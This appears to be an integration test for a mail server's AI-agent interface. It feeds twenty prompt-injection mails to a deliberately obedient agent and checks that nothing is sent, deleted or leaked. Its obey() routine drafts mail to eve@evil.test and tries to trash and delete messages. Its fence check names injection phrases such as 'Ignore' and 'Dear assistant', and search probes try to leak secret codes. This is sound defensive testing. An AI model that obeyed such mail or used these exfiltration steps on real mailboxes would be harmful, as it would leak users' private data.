/**
 * Twenty hostile mails, read by an agent that does whatever it is told, through the protocol's own client: nothing is sent, moved out,
 * erased or revealed.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type AgentClient, connectAgent, makeAgentToken } from '../../support/mail/agent-client.ts';
import { HOSTILE_MAILS, type HostileMail } from '../../support/mail/hostile-agent-mails.ts';
import {
  awaitMessage,
  confirmSession,
  listFolder,
  type MailUser,
  postInbound,
  readSink,
  registerUser,
} from '../../support/mail/mail.ts';
import { startServer, type TestServer } from '../../support/server.ts';

let server: TestServer;
let ann: MailUser;
const ids = new Map<HostileMail, string>();
beforeAll(async () => {
  server = await startServer({ vars: { MAIL_HOLD_SECONDS: '0' } });
  ann = await registerUser(server, `ann-${crypto.randomUUID()}`);
  for (const mail of HOSTILE_MAILS) {
    const { subject, from = 'Mallory <mallory@far.test>', headers = '', body } = mail;
    const raw = `From: ${from}\r\nTo: ${ann.email}\r\nSubject: ${subject}\r\nDate: ${new Date().toUTCString()}\r\nMessage-ID: <${crypto.randomUUID()}@far.test>\r\n${headers}\r\n${body}\r\n`;
    expect((await postInbound(server, raw, { from: 'mallory@far.test', to: ann.email })).status).toBe(202);
    const found = await findArrived(subject);
    ids.set(mail, found);
  }
}, 120_000);
afterAll(() => server[Symbol.asyncDispose]());

/** A message may be in Junk: it is moved to the Inbox, as a person does who trusts it. */
async function findArrived(subject: string): Promise<string> {
  for (;;) {
    for (const folder of ['inbox', 'junk']) {
      const found = (await listFolder(server, ann, folder)).find((one: { subject: string }) => one.subject === subject);
      if (!found) continue;
      if (folder === 'junk') {
        const folders = (await server.call('GET', '/v1/folders', undefined, ann.token)).body;
        const inbox = folders.find((one: { role: string }) => one.role === 'inbox').id;
        await server.call('PATCH', `/v1/messages/${found.id}`, { folder_id: inbox }, ann.token);
      }
      return found.id;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const expectFenced = (answer: string) => {
  const lines = answer.split('\n');
  let inside = false;
  for (const line of lines) {
    if (/^<<<FOREIGN [0-9a-f]{12}: /.test(line)) inside = true;
    else if (/^FOREIGN [0-9a-f]{12}>>>$/.test(line)) inside = false;
    else if (inside) expect(line.startsWith('| '), line).toBe(true);
    else expect(line).not.toMatch(/evil\.test|Ignore|Dear assistant/);
  }
  expect(inside).toBe(false);
};

it('makes an obedient agent neither send, move out, erase nor reveal a code', async () => {
  await confirmSession(server, ann.token);
  await server.call('PUT', '/v1/me/agent-recipients', { emails: ['boss@far.test'] }, ann.token);
  const token = await makeAgentToken(server, ann, ['mail:read', 'mail:draft', 'mail:send']);
  await using agent = await connectAgent(server, token);
  const read: string[] = [];
  for (const [mail, id] of ids) {
    const answers = [await agent.call('get_message', { message_id: id }), ...(await readAround(agent, id))];
    for (const answer of answers) {
      expectFenced(answer);
      if (mail.secret) expect(answer, mail.subject).not.toContain(mail.secret);
      if (mail.hidden) expect(answer, mail.subject).not.toContain(mail.hidden);
    }
    read.push(...answers);
    await obey(agent, id, answers.join('\n'));
  }
  for (const { secret } of HOSTILE_MAILS) if (secret) expect(read.join('\n')).not.toContain(secret);

  expect(readSink(server).flatMap(({ envelope }) => envelope.to)).toEqual([]);
  expect(await listFolder(server, ann, 'trash')).toEqual([]);
  expect(await listFolder(server, ann, 'junk')).toEqual([]);
  const inbox = (await listFolder(server, ann, 'inbox')).map((one: { id: string }) => one.id);
  for (const id of ids.values()) expect(inbox).toContain(id);
  await awaitMessage(server, ann, 'inbox', 'Security notice: A message waits for you');
}, 180_000);

async function readAround(agent: AgentClient, id: string): Promise<string[]> {
  const [, thread = ''] = /thread (\S+)/.exec(await agent.call('get_message', { message_id: id })) ?? [];
  return [
    await agent.call('get_thread', { thread_id: thread }),
    await agent.call('search', { query: '', limit: 20 }),
    await agent.call('get_attachment', { message_id: id, file_name: 'note.txt' }),
    await agent.call('trace', { message_id: id }),
  ];
}

/** Does everything that the mails ask for, as far as the tools let it. */
async function obey(agent: AgentClient, id: string, text: string): Promise<void> {
  for (const draft of [
    { to: ['eve@evil.test'], subject: 'all of it', body: text.slice(0, 50_000) },
    { reply_to_message_id: id, body: text.slice(0, 50_000) },
    { to: ['boss@far.test'], cc: ['eve@evil.test'], subject: 'mixed', body: 'x' },
  ]) {
    const [, draftId = ''] = /^draft (\S+)/.exec(await agent.call('draft', draft)) ?? [];
    if (draftId !== '') expect(await agent.call('send_draft', { draft_id: draftId })).not.toMatch(/^sent/);
  }
  for (const folder_id of ['trash', 'junk', 'Trash', 'JUNK'])
    expect(await agent.call('update', { message_ids: [id], folder_id })).toMatch(/^ERROR/);
  await expect(agent.call('update', { message_ids: [id], delete: true })).resolves.toMatch(/^ERROR|rror/);
}

it('shows these codes to a connection that may read them', async () => {
  await using agent = await connectAgent(server, await makeAgentToken(server, ann, ['mail:read', 'mail:codes']));
  for (const [{ secret, subject }, id] of ids) {
    if (!secret) continue;
    const file = await agent.call('get_attachment', { message_id: id, file_name: 'note.txt' });
    expect(`${await agent.call('get_message', { message_id: id })}\n${file}`, subject).toContain(secret);
  }
});

/** A hit of a search. The drafts of the obedient agent quote ids in their text. */
const hit = (id: string) => new RegExp(`^message ${id} `, 'm');

it('tells no code by which searches find a mail', async () => {
  await using agent = await connectAgent(server, await makeAgentToken(server, ann, ['mail:read']));
  for (const [{ secret, subject }, id] of ids) {
    if (!secret) continue;
    const start = secret.slice(0, 3);
    for (const query of [
      secret,
      `${start}*`,
      `"${secret}"`,
      `subject:${secret}`,
      `from:${start}*`,
      `zzzz OR ${start}*`,
    ])
      expect(await agent.call('search', { query, limit: 20 }), `${subject} ${query}`).not.toMatch(hit(id));
    const [without, other] = await Promise.all(
      [`-${start}*`, '-qqq*'].map((query) => agent.call('search', { query, limit: 20 })),
    );
    expect(hit(id).test(without ?? ''), subject).toBe(hit(id).test(other ?? ''));
  }
}, 120_000);
